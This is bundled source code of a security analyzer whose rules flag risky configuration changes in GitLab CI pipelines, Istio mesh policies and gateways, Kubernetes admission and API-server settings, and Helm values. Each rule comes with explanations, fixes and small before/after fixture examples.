      { path: path8, before: pipeline(), after: pipeline('services: ["docker:27-dind"]'), outcome: "open" },
      { path: path8, before: "", after: pipeline('services: ["docker:dind"]'), outcome: "born" },
      { path: path8, before: pipeline('services: ["docker:dind"]'), after: pipeline(), outcome: "hardened" },
      { path: path8, before: pipeline(), after: pipeline("services: [postgres]"), outcome: "none" }
    ]
  }),
  control({
    id: "config/gitlab-docker-plain",
    class: "encryption-disabled",
    title: "Docker engine of a job without certificates",
    why: "Whatever reaches the port of the engine takes over its runner, and reads what the job sends to it.",
    fix: "Set it to `/certs` again, where the engine leaves its certificates.",
    dialect: dialect13,
    governs: ({ keys }) => keys.at(-1) === "DOCKER_TLS_CERTDIR",
    rank: unless(""),
    ...weakWhenSet({
      risk: "medium",
      praise: "Docker engine of a job asks for certificates",
      weak: 'DOCKER_TLS_CERTDIR: ""',
      safe: "DOCKER_TLS_CERTDIR: /certs",
      path: path8,
      file: (text) => pipeline(`variables:
    NAME: web
    ${text}`)
    })
  }),
  control({
    id: "config/gitlab-identity",
    class: "permission-widening",
    title: "job gets an identity for other clouds",
    why: "Every command of the job may act elsewhere with whatever that identity is trusted to do.",
    fix: "Give it to the one job that needs it, and trust it for one branch only.",
    dialect: dialect13,
    governs: inJob("id_tokens"),
    rank: () => 0,
    absent: 1,
    outcomes: {
      open: { risk: "medium", message: () => "The job now gets an identity token." },
      born: { risk: "low", message: () => "The new job gets an identity token." },
      hardened: { ...hardened("job gets no identity"), message: () => "The job no longer gets an identity token." }
    },
    examples: [
      { path: path8, before: pipeline(), after: pipeline("id_tokens: { AWS: { aud: a } }"), outcome: "open" },
      { path: path8, before: "", after: pipeline("id_tokens: { AWS: { aud: a } }"), outcome: "born" },
      { path: path8, before: pipeline("id_tokens: { AWS: { aud: a } }"), after: pipeline(), outcome: "hardened" },
      {
        path: path8,
        before: pipeline("id_tokens: { AWS: { aud: a } }"),
        after: pipeline("id_tokens: { AWS: { aud: b } }"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/gitlab-environment-removed",
    class: "permission-widening",
    title: "job no longer bound to its environment",
    why: "Approvals and protected variables of the environment no longer hold the job back.",
    fix: "Keep `environment` on jobs that deploy.",
    dialect: dialect13,
    governs: inJob("environment"),
    rank: () => 1,
    absent: 0,
    outcomes: {
      drop: removed("medium", "environment of the job"),
      hardened: added("job bound to an environment", "environment of the job")
    },
    examples: [
      { path: path8, before: pipeline("environment: production"), after: pipeline(), outcome: "drop" },
      { path: path8, before: pipeline(), after: pipeline("environment: production"), outcome: "hardened" },
      {
        path: path8,
        before: pipeline("environment: production"),
        after: pipeline("environment: { name: production }"),
        outcome: "none"
      }
    ]
  })
];

// src/domains/config/workflows/tests.ts
var TESTS = /(?:^|[-_ ])(?:tests?|lint(?:ing|er)?|check|checks|verify|e2e|unit|integration|typecheck|coverage)(?:[-_ ]|$)/i;
var SURE = /(?:^|[-_ ])(?:tests?|lint(?:ing|er)?|e2e|unit|integration|typecheck|coverage)(?:[-_ ]|$)/i;
var isStepOfTests = (name, node) => SURE.test(name) || TESTS.test(name) && node !== void 0 && commandsOf(node).some((command) => TESTS.test(command));
function fateOf({ before: before3, document, keys }) {
  const [old, now] = [allSteps(document.before), allSteps(document.after)];
  const runs = new Set(now.flatMap(({ node }) => commandsOf(node)));
  const commands = [before3, ...itemsAt(before3, "steps")].flatMap((node) => node ? commandsOf(node) : []);
  if (commands.length > 0 && commands.every((command) => runs.has(command)))
    return keys.length === 2 && keys[0] === "jobs" && at(before3, "steps") ? "moved" : "kept";
  const steps2 = jobsOf(document.after).find(({ name }) => name === keys[1])?.steps ?? [];
  return steps2.some((step2) => isOfTests(step2) && !isAsBefore(step2, old)) ? "merged" : "gone";
}
var commandsOf = (node) => [usesOf(node) ?? [], linesOf2(node)].flat();
var linesOf2 = (node) => (textAt(node, "run") ?? "").split("\n").flatMap((line) => line.trim().replace(/\s+/g, " ") || []);
var isOfTests = ({ label: label2, node }) => TESTS.test(label2) || commandsOf(node).some((command) => TESTS.test(command));
var isAsBefore = (step2, old) => old.some((other) => other.label === step2.label && textAt(other.node, "run") === textAt(step2.node, "run"));

// src/domains/config/rules/gitlab/tests.ts
var path9 = ".gitlab-ci.yml";
var dialect14 = "gitlab-ci";
var SIGNS = /(?:^|[-_:. ])(?:sign|signing|attest|attestation|sbom)(?:[-_:. ]|$)|\bcosign (?:sign|attest)\b/i;
var isRun = (name) => !name.startsWith(".");
var commandsOf2 = (node) => textsOf(at(node, "script"));
var isLost = ({ keys, path: steps2, document, before: before3, after }) => {
  const [name = ""] = keys;
  if (steps2.length !== 1 || after !== void 0 || !isRun(name) || document.after === void 0) return false;
  const commands = commandsOf2(before3);
  const still = new Set(jobsOf2(document, "after").flatMap(([, job4]) => commandsOf2(job4)));
  const isKept2 = commands.length > 0 && commands.every((command) => still.has(command));
  return document.before !== void 0 && isJob(name, document.before) && !isKept2;
};
function jobsOf2(pair, side2) {
  const document = pair[side2];
  return document === void 0 ? [] : entriesOf(document.root).filter(([name]) => isRun(name) && isJob(name, document));
}
var isOfTests2 = (name) => TESTS.test(name.replaceAll(":", " "));
var testsLeft = ({ document }) => jobsOf2(document, "after").some(([name]) => isOfTests2(name));
var signs = ({ keys, before: before3 }) => SIGNS.test(keys[0] ?? "") || commandsOf2(before3).some((command) => SIGNS.test(command));
var tests_default = [
  control({
    id: "config/gitlab-tests-removed",
    class: "availability",
    title: "tests no longer run",
    why: "What they used to find now reaches users.",
    fix: "Keep a job that runs them.",
    dialect: dialect14,
    governs: (setting) => isLost(setting) && isOfTests2(setting.keys[0] ?? "") && !testsLeft(setting),
    rank: () => 1,
    absent: 0,
    outcomes: { drop: { risk: "medium", message: (c) => `The job \`${c.name}\` was removed, and no other tests.` } },
    examples: [
      { path: path9, before: pipeline("", "unit-test: { script: [make unit] }"), after: pipeline(), outcome: "drop" },
      {
        path: path9,
        before: pipeline("", "test:a: { script: [a] }\ntest:b: { script: [b] }"),
        after: pipeline("", "test:b: { script: [b] }"),
        outcome: "none"
      },
      {
        path: path9,
        before: pipeline("", "test: { script: [make unit] }"),
        after: pipeline("", "all: { script: [make docs, make unit] }"),
        outcome: "none"
      },
      { path: path9, before: pipeline("", ".test: { script: [make unit] }"), after: pipeline(), outcome: "none" },
      { path: path9, before: pipeline("", "test: { script: [make unit] }"), after: "", outcome: "none" }
    ]
  }),
  control({
    id: "config/gitlab-signing-removed",
    class: "supply-chain",
    title: "signing removed",
    why: "Whoever fetches the release can no longer tell it from a forged one; those who check the signature refuse it.",
    fix: "Keep the job, or sign in the pipeline that takes its place.",
    dialect: dialect14,
    governs: (setting) => isLost(setting) && signs(setting),
    rank: () => 1,
    absent: 0,
    outcomes: { drop: removed("medium", "job that signs") },
    examples: [
      { path: path9, before: pipeline("", "sign:images: { script: [./sign] }"), after: pipeline(), outcome: "drop" },
      {
        path: path9,
        before: pipeline("", "release: { script: [make, cosign sign image] }"),
        after: pipeline(),
        outcome: "drop"
      },
      { path: path9, before: pipeline("", "design: { script: [make design] }"), after: pipeline(), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/istio/authorization.ts
var dialect15 = "kubernetes";
var policy = object("security.istio.io/v1", "AuthorizationPolicy");
var tokens = object("security.istio.io/v1", "RequestAuthentication");
var FROM_WEB = "from: [{ source: { principals: [web] } }]";
var allowing = (rule, action2 = "ALLOW") => policy(`action: ${action2}
rules: [{ ${rule} }]`);
var at2 = (...keys) => ofKind("AuthorizationPolicy", "spec", ...keys);
var allows = ({ document }) => textAt(document.after?.root, "spec", "action") !== "DENY";
var condition = either(at2("rules", "from"), at2("rules", "to"), at2("rules", "when"));
var callers = either(
  ...["principals", "requestPrincipals", "namespaces", "ipBlocks"].map((name) => at2("rules", "from", "source", name))
);
var refusing = (...namespaces) => policy(
  `action: DENY
rules: [${namespaces.map((name) => `{ from: [{ source: { namespaces: [${name}] } }] }`).join(", ")}]`
);
var ruleItem = itemOfKind("AuthorizationPolicy", "spec", "rules");
var grants3 = ({ document }) => (textAt(document.after?.root, "spec", "action") ?? "ALLOW") === "ALLOW";
var authorization_default = [
  control({
    id: "config/mesh-rule-widened",
    class: "permission-widening",
    title: "mesh lets in more callers",
    why: "A rule without the condition lets in every call that the rest of it matches.",
    fix: "Keep the condition, or name the callers that are new.",
    dialect: dialect15,
    governs: (setting) => condition(setting) && allows(setting),
    rank: () => 1,
    absent: 0,
    outcomes: {
      drop: removed("high", "condition of a rule that allows"),
      hardened: hardened("mesh lets in fewer callers")
    },
    examples: [
      { before: allowing(`${FROM_WEB}, to: []`), after: allowing("to: []"), outcome: "drop" },
      { before: allowing("to: []"), after: allowing(`${FROM_WEB}, to: []`), outcome: "hardened" },
      { before: allowing(`${FROM_WEB}, to: []`, "DENY"), after: allowing("to: []", "DENY"), outcome: "none" },
      { before: allowing(FROM_WEB), after: allowing(FROM_WEB.replace("web", '"web"')), outcome: "none" }
    ]
  }),
  control({
    id: "config/mesh-any-caller",
    class: "permission-widening",
    title: "mesh lets in any caller",
    why: "Every workload that has an identity may call, whoever runs it.",
    fix: "Name the callers.",
    dialect: dialect15,
    governs: (setting) => callers(setting) && allows(setting),
    rank: (node) => Number(!textsOf(node).includes("*")),
    outcomes: { flip: moved2("high"), hardened: hardened("mesh names its callers") },
    examples: [
      { before: allowing(FROM_WEB), after: allowing(FROM_WEB.replace("web", '"*"')), outcome: "flip" },
      { before: allowing(FROM_WEB.replace("web", '"*"')), after: allowing(FROM_WEB), outcome: "hardened" },
      { before: allowing(FROM_WEB), after: allowing(FROM_WEB.replace("web", "web, shop")), outcome: "none" }
    ]
  }),
  control({
    id: "config/mesh-policy-audit",
    class: "permission-widening",
    title: "mesh policy only watches",
    why: "The policy no longer refuses anybody.",
    fix: "Keep `ALLOW` or `DENY`, and add a policy of its own that audits.",
    dialect: dialect15,
    governs: at2("action"),
    rank: unless("AUDIT"),
    outcomes: { flip: moved2("high"), hardened: hardened("mesh policy now decides") },
    examples: [
      { before: allowing(FROM_WEB), after: allowing(FROM_WEB, "AUDIT"), outcome: "flip" },
      { before: allowing(FROM_WEB, "AUDIT"), after: allowing(FROM_WEB), outcome: "hardened" },
      { before: allowing(FROM_WEB), after: allowing(FROM_WEB, '"ALLOW"'), outcome: "none" }
    ]
  }),
  control({
    id: "config/mesh-token-audience",
    class: "permission-widening",
    title: "mesh takes tokens meant for others",
    why: "A token that another service was given is now taken here too.",
    fix: "Keep `audiences`.",
    dialect: dialect15,
    governs: ofKind("RequestAuthentication", "spec", "jwtRules", "audiences"),
    rank: () => 1,
    absent: 0,
    outcomes: {
      drop: removed("medium", "list of audiences"),
      hardened: hardened("mesh checks whom tokens are meant for")
    },
    examples: [
      {
        before: tokens("jwtRules: [{ issuer: me, audiences: [shop] }]"),
        after: tokens("jwtRules: [{ issuer: me }]"),
        outcome: "drop"
      },
      {
        before: tokens("jwtRules: [{ issuer: me }]"),
        after: tokens("jwtRules: [{ issuer: me, audiences: [shop] }]"),
        outcome: "hardened"
      },
      { before: tokens("jwtRules: [{ issuer: me, audiences: [shop] }]"), after: "", outcome: "none" }
    ]
  }),
  control({
    id: "config/mesh-refusal-removed",
    class: "permission-widening",
    title: "mesh no longer refuses some calls",
    why: "Calls that the rule refused now reach the workload.",
    fix: "Keep the rule, or show that another one refuses the same calls.",
    dialect: dialect15,
    governs: (setting) => ruleItem(setting) && !grants3(setting),
    rank: () => 1,
    absent: 0,
    outcomes: {
      drop: { risk: "high", message: () => "A rule that refuses calls was removed." },
      hardened: added("mesh refuses more calls", "rule that refuses calls")
    },
    examples: [
      { before: refusing("a", "b"), after: refusing("a"), outcome: "drop" },
      { before: refusing("a"), after: refusing("a", "b"), outcome: "hardened" },
      { before: refusing("a", "b"), after: refusing("b", "a"), outcome: "none" }
    ]
  }),
  control({
    id: "config/mesh-rule-added",
    class: "permission-widening",
    title: "mesh lets in calls by a new rule",
    why: "Callers that no rule let in before are let in by this one.",
    fix: "Name the callers, paths and methods that need it.",
    dialect: dialect15,
    governs: (setting) => ruleItem(setting) && grants3(setting),
    rank: () => 0,
    absent: 1,
    outcomes: {
      open: { risk: "medium", message: () => "A new rule lets more calls in." },
      hardened: { ...hardened("mesh lets in fewer calls"), message: () => "A rule that lets calls in was removed." }
    },
    refine: ({ transition }) => transition === "open" || transition === "hardened" ? transition : void 0,
    examples: [
      {
        before: allowing(FROM_WEB),
        after: policy(`action: ALLOW
rules: [{ ${FROM_WEB} }, { to: [{ x: y }] }]`),
        outcome: "open"
      },
      {
        before: policy(`action: ALLOW
rules: [{ ${FROM_WEB} }, { to: [{ x: y }] }]`),
        after: allowing(FROM_WEB),
        outcome: "hardened"
      },
      { before: "", after: allowing(FROM_WEB), outcome: "none" }
    ]
  }),
  control({
    id: "config/mesh-action-changed",
    class: "permission-widening",
    title: "mesh policy turned around",
    why: "What its rules refused is now let in, or the other way round.",
    fix: "Write a new policy for the new action, and keep the old one until it works.",
    dialect: dialect15,
    governs: at2("action"),
    rank: (node, setting) => textsOf(node)[0] === "AUDIT" || textsOf(setting.before)[0] === "AUDIT" ? void 0 : untouched(node, setting),
    outcomes: { flip: moved2("high") },
    refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
    examples: [
      { before: allowing(FROM_WEB, "DENY"), after: allowing(FROM_WEB), outcome: "flip" },
      { before: allowing(FROM_WEB), after: allowing(FROM_WEB, "AUDIT"), outcome: "none" },
      { before: allowing(FROM_WEB), after: allowing(FROM_WEB, '"ALLOW"'), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/istio/gateways.ts
var dialect16 = "kubernetes";
var gateway = object("networking.istio.io/v1", "Gateway");
var tls = (settings) => gateway(`servers: [{ name: web, tls: { ${settings} } }]`);
var hosts = (list) => gateway(`servers: [{ port: { number: 443, name: https }, hosts: ${list} }]`);
var VERSIONS = ["TLSV1_3", "TLSV1_2", "TLSV1_1", "TLSV1_0"];
var gateways_default = [
  control({
    id: "config/mesh-gateway-redirect",
    class: "encryption-disabled",
    title: "mesh gateway no longer redirects to HTTPS",
    why: "Clients that come without encryption stay without it.",
    fix: "Keep `httpsRedirect: true`.",
    dialect: dialect16,
    governs: ofKind("Gateway", "spec", "servers", "tls", "httpsRedirect"),
    rank: safeOn,
    absent: 0,
    outcomes: {
      flip: moved2("medium"),
      drop: moved2("medium"),
      hardened: hardened("mesh gateway now redirects to HTTPS")
    },
    examples: [
      { before: tls("httpsRedirect: true"), after: tls("httpsRedirect: false"), outcome: "flip" },
      { before: tls("httpsRedirect: true, mode: SIMPLE"), after: tls("mode: SIMPLE"), outcome: "drop" },
      { before: tls("httpsRedirect: false"), after: tls("httpsRedirect: true"), outcome: "hardened" },
      { before: tls("httpsRedirect: true"), after: "", outcome: "none" }
    ]
  }),
  control({
    id: "config/mesh-gateway-client-certificate",
    class: "permission-widening",
    title: "mesh gateway no longer asks for a certificate",
    why: "Clients without a certificate are let in.",
    fix: "Keep `MUTUAL`.",
    dialect: dialect16,
    governs: ofKind("Gateway", "spec", "servers", "tls", "mode"),
    rank: ordered(["MUTUAL", "OPTIONAL_MUTUAL", "SIMPLE"]),
    outcomes: { flip: moved2("high"), hardened: hardened("mesh gateway asks for a certificate") },
    examples: [
      { before: tls("mode: MUTUAL"), after: tls("mode: SIMPLE"), outcome: "flip" },
      { before: tls("mode: SIMPLE"), after: tls("mode: MUTUAL"), outcome: "hardened" },
      { before: tls("mode: MUTUAL"), after: tls('mode: "MUTUAL"'), outcome: "none" }
    ]
  }),
  control({
    id: "config/mesh-gateway-old-tls",
    class: "encryption-disabled",
    title: "mesh gateway takes older TLS",
    why: "Versions before 1.2 can be broken by who listens.",
    fix: "Keep `TLSV1_2` or later.",
    dialect: dialect16,
    governs: ofKind("Gateway", "spec", "servers", "tls", "minProtocolVersion"),
    rank: ordered(VERSIONS),
    absent: 2,
    outcomes: {
      broken: moved2("high"),
      older: moved2("low"),
      hardened: hardened("mesh gateway takes newer TLS only")
    },
    refine: ({ transition, to }) => {
      if (transition === "hardened") return "hardened";
      if (transition === "template") return void 0;
      return to === "TLSV1_0" || to === "TLSV1_1" ? "broken" : "older";
    },
    examples: [
      { before: tls("minProtocolVersion: TLSV1_2"), after: tls("minProtocolVersion: TLSV1_0"), outcome: "broken" },
      { before: tls("minProtocolVersion: TLSV1_3"), after: tls("minProtocolVersion: TLSV1_2"), outcome: "older" },
      { before: tls("minProtocolVersion: TLSV1_2"), after: tls("minProtocolVersion: TLSV1_3"), outcome: "hardened" },
      { before: tls("mode: SIMPLE, minProtocolVersion: TLSV1_2"), after: tls("mode: SIMPLE"), outcome: "none" }
    ]
  }),
  control({
    id: "config/mesh-gateway-any-host",
    class: "exposure",
    title: "mesh gateway answers for any host",
    why: "Any namespace can attach a route, and requests for names nobody thought of come in.",
    fix: "Name the hosts.",
    dialect: dialect16,
    governs: ofKind("Gateway", "spec", "servers", "hosts"),
    rank: (node) => Number(!textsOf(node).some((host) => /^(?:\*\/)?\*$/.test(host))),
    outcomes: { flip: moved2("medium"), hardened: hardened("mesh gateway names its hosts") },
    refine: ({ transition }) => transition === "flip" || transition === "hardened" ? transition : void 0,
    examples: [
      { before: hosts("[shop.example.com]"), after: hosts("['*']"), outcome: "flip" },
      { before: hosts("['*']"), after: hosts("[shop.example.com]"), outcome: "hardened" },
      { before: hosts("[shop.example.com]"), after: hosts("['*.example.com']"), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/istio/tokens.ts
var dialect17 = "kubernetes";
var tokens2 = object("security.istio.io/v1", "RequestAuthentication");
var issuers = (...names2) => tokens2(`jwtRules: [${names2.map((name) => `{ issuer: ${name}, jwksUri: x }`).join(", ")}]`);
var tokens_default = [
  control({
    id: "config/mesh-issuer-changed",
    class: "permission-widening",
    title: "mesh takes tokens of other issuers",
    why: "Callers with tokens of the old issuer are no longer known, and those of a new one are.",
    fix: "Take both issuers until all callers have new tokens.",
    dialect: dialect17,
    governs: either(
      itemOfKind("RequestAuthentication", "spec", "jwtRules"),
      ofKind("RequestAuthentication", "spec", "jwtRules", "issuer")
    ),
    rank: (node, setting) => node.kind === "scalar" ? untouched(node, setting) : 1,
    absent: 0,
    outcomes: { flip: moved2("high"), drop: removed("medium", "rule of an issuer") },
    refine: ({ transition }) => transition === "flip" || transition === "drop" ? transition : void 0,
    examples: [
      { before: issuers("a"), after: issuers("b"), outcome: "flip" },
      { before: issuers("a", "b"), after: issuers("a"), outcome: "drop" },
      { before: issuers("a"), after: issuers("a", "b"), outcome: "none" }
    ]
  }),
  control({
    id: "config/mesh-token-forwarded",
    class: "permission-widening",
    title: "mesh hands tokens on",
    why: "The workload, and whoever takes it over, can act with the token of each caller.",
    fix: "Hand on single claims in headers instead.",
    dialect: dialect17,
    governs: ofKind("RequestAuthentication", "spec", "jwtRules", "forwardOriginalToken"),
    rank: safeOff,
    ...weakWhenSet({
      risk: "medium",
      praise: "mesh keeps tokens to itself",
      weak: "jwtRules: [{ issuer: a, forwardOriginalToken: true }]",
      safe: "jwtRules: [{ issuer: a, forwardOriginalToken: false }]",
      file: (lines) => tokens2(lines === "" ? "jwtRules: [{ issuer: a }]" : lines)
    })
  })
];

// src/domains/config/readers/outcomes.ts
var stillReadOutcomes = (said8) => ({
  stops: {
    risk: "high",
    class: "availability",
    title: "removed value still read",
    message: (change) => `${said8(change)}, and ${readerOf(change)} still goes below the old one.`,
    why: "Helm stops there with a nil pointer: unless whoever installs it sets the old value, the chart no longer installs or upgrades.",
    fix: "Change the template in the same step, or give the value back."
  },
  empty: {
    risk: "medium",
    class: "compatibility",
    title: "removed value still read",
    message: (change) => `${said8(change)}, but ${readerOf(change)} still reads the old one.`,
    why: "The template renders nothing there, and does not see what users set now.",
    fix: "Change the template in the same step, or give the value back."
  }
});
var readerOf = ({ stillRead }) => `\`${stillRead?.path ?? ""}\``;
var stillReadOutcome = (stillRead) => stillRead && (stillRead.fails ? "stops" : "empty");
var chart = (values3, template) => ({
  "chart/values.yaml": values3,
  "chart/templates/web.yaml": template
});

// src/domains/config/rules/key-moved.ts
var PUBLIC = { config: { isPublic: () => true } };
var said2 = ({ from: from3, to }) => `\`${from3}\` now stands at \`${to}\`, with the same value.`;
var key_moved_default = configRule({
  id: "config/key-moved",
  on: "key-moved",
  class: "moved",
  title: "key moved",
  why: "Readers of the old place find nothing and fall back to their default without a word.",
  fix: "Read both places until all have moved, and say so where users look.",
  outcomes: {
    ...stillReadOutcomes(({ from: from3, to }) => `\`${from3}\` now stands at \`${to}\``),
    public: { risk: "medium", message: said2 },
    internal: { risk: "info", message: said2 }
  },
  examples: [
    { before: "a: { host: acme-1 }\nb: {}", after: "a: {}\nb: { host: acme-1 }", settings: PUBLIC, outcome: "public" },
    { before: "a: { host: acme-1 }\nb: {}", after: "a: {}\nb: { host: acme-1 }", outcome: "internal" },
    {
      before: chart("a: { host: acme-1 }\nb: { c: 1 }", "x: {{ .Values.a.host }}"),
      after: chart("a: { d: 1 }\nb: { c: 1, host: acme-1 }", "x: {{ .Values.a.host }}"),
      outcome: "empty"
    },
    {
      before: chart("a: { host: { x: 1, y: 2 } }\nb: { c: 1 }", "x: {{ .Values.a.host.x }}"),
      after: chart("a: { d: 1 }\nb: { c: 1, host: { x: 1, y: 2 } }", "x: {{ .Values.a.host.x }}"),
      outcome: "stops"
    },
    { before: "a: { on: true }\nb: {}", after: "a: {}\nb: { on: true }", outcome: "none" },
    { before: "a: { host: acme-1 }\nb: {}", after: "b: {}\na: { host: acme-1 }", outcome: "none" }
  ],
  classify: ({ isPublic: isPublic2, stillRead }) => stillReadOutcome(stillRead) ?? (isPublic2 ? "public" : "internal")
});

// src/domains/config/tooling.ts
var TOOLING = /(?:^|\/)(?:\.|(?:mkdocs|codecov|azure-pipelines|skaffold|buf(?:\.[\w.]+)?|Chart|kustomization|jsonnetfile|codegen|pubspec|pnpm-\w+|(?:[\w.-]*[.-])?lock)\.ya?ml$)|(?:^|\/)(?:_data|locales?|i18n|translations?)\//i;
var isTooling = (path27) => TOOLING.test(path27 ?? "");

// src/domains/config/rules/key-removed.ts
var PUBLIC2 = { config: { isPublic: () => true } };
var maybeNow = ({ maybe }) => maybe === void 0 ? "" : `; \`${maybe}\`, new beside it, may take its place`;
var key_removed_default = configRule({
  id: "config/key-removed",
  on: "key-removed",
  class: "removed",
  title: "key removed",
  why: "Whoever sets or reads it is ignored from now on, without a word.",
  fix: "Keep it as deprecated for a release, and say what takes its place.",
  outcomes: {
    ...stillReadOutcomes(({ subject }) => `\`${subject}\` was removed`),
    public: {
      risk: "medium",
      message: (c) => `\`${c.subject}\` was removed from a public configuration${maybeNow(c)}.`
    },
    internal: {
      risk: "low",
      message: (c) => `\`${c.subject}\` was removed${maybeNow(c)}.`,
      why: "Whatever still reads it falls back to its default without a word.",
      fix: "Make sure that nothing reads it any longer."
    }
  },
  examples: [
    { before: "a: 1\nb: 2", after: "a: 1", settings: PUBLIC2, outcome: "public" },
    { before: "a: 1\nb: 2", after: "a: 1", outcome: "internal" },
    { path: "charts/web/values.yaml", before: "a: 1\nb: { c: 2, d: 3 }", after: "a: 1", outcome: "internal" },
    {
      before: chart("z: 1\na: { b: x1 }", "x: {{ .Values.a.b }}"),
      after: chart("z: 1", "x: {{ .Values.a.b }}"),
      outcome: "stops"
    },
    {
      before: chart("a: { b: x1, c: 2 }", "x: {{ .Values.a.b }}"),
      after: chart("a: { c: 2 }", "x: {{ .Values.a.b }}"),
      outcome: "empty"
    },
    { before: "a: [{ name: x }]", after: "a: []", outcome: "none" },
    { path: "tests/app.yaml", before: "a: 1\nb: 2", after: "a: 1", outcome: "none" },
    { path: ".golangci.yml", before: "a: 1\nb: 2", after: "a: 1", outcome: "none" },
    {
      path: "compose.yaml",
      before: "services: { a: { image: x, tty: true } }",
      after: "services: { a: { image: x } }",
      outcome: "none"
    },
    {
      before: "kind: B\nspec: { a: 1, b: 2 }\napiVersion: v1",
      after: "kind: B\nspec: { a: 1 }\napiVersion: v1",
      outcome: "none"
    }
  ],
  classify({ isPublic: isPublic2, what, dialect: dialect30, area, inSchema, before: before3, stillRead }) {
    if (what === "item" || inSchema) return void 0;
    if (stillRead) return stillReadOutcome(stillRead);
    if (isPublic2) return "public";
    const isTyped = dialect30 !== void 0 && dialect30 !== "helm-values";
    return isTyped || area === "test" || isTooling(before3?.path) ? void 0 : "internal";
  }
});

// src/domains/config/rules/key-renamed.ts
var PUBLIC3 = { config: { isPublic: () => true } };
var said3 = ({ from: from3, to, reader }) => reader === void 0 ? `\`${from3}\` is now \`${to}\`, judging by its place and value.` : `\`${from3}\` is now \`${to}\`: \`${reader}\` changed along with it.`;
var key_renamed_default = configRule({
  id: "config/key-renamed",
  on: "key-renamed",
  class: "renamed",
  title: "key renamed",
  why: "Readers of the old name find nothing and fall back to their default without a word.",
  fix: "Read both names until all have moved, and say so where users look.",
  outcomes: {
    ...stillReadOutcomes(({ from: from3, to }) => `\`${from3}\` is now \`${to}\``),
    public: { risk: "medium", message: said3 },
    internal: { risk: "low", message: said3 }
  },
  examples: [
    { before: "user_id: acme-4711", after: "userId: acme-4711", settings: PUBLIC3, outcome: "public" },
    { before: "user_id: acme-4711", after: "userId: acme-4711", outcome: "internal" },
    {
      before: { "app.yaml": "limit: acme-4711", "app.go": 'get("limit")' },
      after: { "app.yaml": "most: acme-4711", "app.go": 'get("most")' },
      outcome: "internal"
    },
    {
      before: chart("user_id: x1", "x: {{ .Values.user_id }}"),
      after: chart("userId: x1", "x: {{ .Values.user_id }}"),
      outcome: "empty"
    },
    {
      before: chart("user: { id: x1 }", "x: {{ .Values.user.id }}"),
      after: chart("users: { id: x1 }", "x: {{ .Values.user.id }}"),
      outcome: "stops"
    },
    { before: "user_id: acme-4711", after: "user_id: acme-4712", outcome: "none" },
    { path: ".golangci.yml", before: "skip-dirs: [acme]", after: "exclude-dirs: [acme]", outcome: "none" },
    { before: "enable_tls: x", after: "disable_tls: x", outcome: "none" },
    { before: "alpha: 1", after: "omega: 2", outcome: "none" }
  ],
  classify({ isPublic: isPublic2, before: before3, stillRead }) {
    if (stillRead) return stillReadOutcome(stillRead);
    if (isPublic2) return "public";
    return isTooling(before3?.path) ? void 0 : "internal";
  }
});

// src/domains/config/rules/kubernetes/admission.ts
var LABEL = "pod-security.kubernetes.io";
var namespace = (label2 = "") => `apiVersion: v1
kind: Namespace
metadata:
  name: shop
  labels:
    team: shop
${label2 === "" ? "" : `    ${LABEL}/${label2}`}
`;
var admission_default = [
  control({
    id: "config/pod-security-lowered",
    class: "permission-widening",
    title: "pod security of a namespace lowered",
    why: "Pods that the stricter level refuses, with host access or as root, may now run here.",
    fix: "Keep the level; give the pod that needs more a namespace of its own.",
    dialect: "kubernetes",
    governs: ({ keys }) => keys.at(-1) === `${LABEL}/enforce`,
    rank: ordered(POD_SECURITY),
    absent: 0,
    outcomes: {
      flip: moved2("high"),
      drop: moved2("high"),
      hardened: hardened("pod security of a namespace raised")
    },
    examples: [
      { before: namespace("enforce: restricted"), after: namespace("enforce: baseline"), outcome: "flip" },
      { before: namespace("enforce: baseline"), after: namespace(), outcome: "drop" },
      { before: namespace("enforce: baseline"), after: namespace("enforce: restricted"), outcome: "hardened" },
      { before: namespace("enforce: restricted"), after: namespace('enforce: "restricted"'), outcome: "none" }
    ]
  }),
  control({
    id: "config/pod-security-unwatched",
    class: "observability",
    title: "pod security of a namespace no longer reported",
    why: "Pods below that level run without a warning or an audit entry.",
    fix: "Keep the label, which stops nothing and tells much.",
    dialect: "kubernetes",
    governs: ({ keys }) => [`${LABEL}/audit`, `${LABEL}/warn`].includes(keys.at(-1) ?? ""),
    rank: ordered(POD_SECURITY),
    absent: 0,
    outcomes: { flip: moved2("low"), drop: moved2("low"), hardened: hardened("pod security now reported") },
    examples: [
      { before: namespace("audit: restricted"), after: namespace("audit: privileged"), outcome: "flip" },
      { before: namespace("warn: restricted"), after: namespace(), outcome: "drop" },
      { before: namespace(), after: namespace("warn: restricted"), outcome: "hardened" },
      { before: namespace(), after: namespace("warn: privileged"), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/kubernetes/api-server.ts
var args = (flag) => container(flag === "" ? "args: [--port=1]" : `args: [--port=1, ${flag}]`);
var kubelet = (lines) => `apiVersion: kubelet.config.k8s.io/v1beta1
kind: KubeletConfiguration
port: 10250
${lines}
`;
var words = (node) => textsOf(node).flatMap((text) => text.split(","));
var ADMISSION_GUARDS = ["NodeRestriction", "PodSecurity", "ServiceAccount", "NamespaceLifecycle", "AlwaysPullImages"];
var guards = (node) => words(node).filter((word) => ADMISSION_GUARDS.includes(word)).length;
var admits = (node) => guards(node) - (words(node).includes("AlwaysAdmit") ? 10 : 0);
var api_server_default = [
  control({
    id: "config/anonymous-requests",
    class: "permission-widening",
    title: "anonymous requests allowed",
    why: "Requests without any credentials are let in, with whatever anonymous users are granted.",
    fix: "Set `--anonymous-auth=false` again.",
    equivalents: ["checkov:CKV_K8S_68", "checkov:CKV_K8S_138"],
    dialect: "kubernetes",
    governs: either(
      componentFlag("anonymous-auth"),
      ofKind("KubeletConfiguration", "authentication", "anonymous", "enabled")
    ),
    rank: safeOff,
    ...safeWhenSet({
      risk: "critical",
      praise: "anonymous requests refused",
      weak: "--anonymous-auth=true",
      safe: "--anonymous-auth=false",
      file: args
    })
  }),
  control({
    id: "config/authorization-mode",
    class: "permission-widening",
    title: "requests no longer checked",
    why: "Whoever is let in may do everything, or the one check that was taken out no longer holds anybody back.",
    fix: "Keep `Node,RBAC`, or `Webhook` for a kubelet.",
    equivalents: ["checkov:CKV_K8S_74", "checkov:CKV_K8S_77", "checkov:CKV_K8S_139"],
    dialect: "kubernetes",
    governs: either(componentFlag("authorization-mode"), ofKind("KubeletConfiguration", "authorization", "mode")),
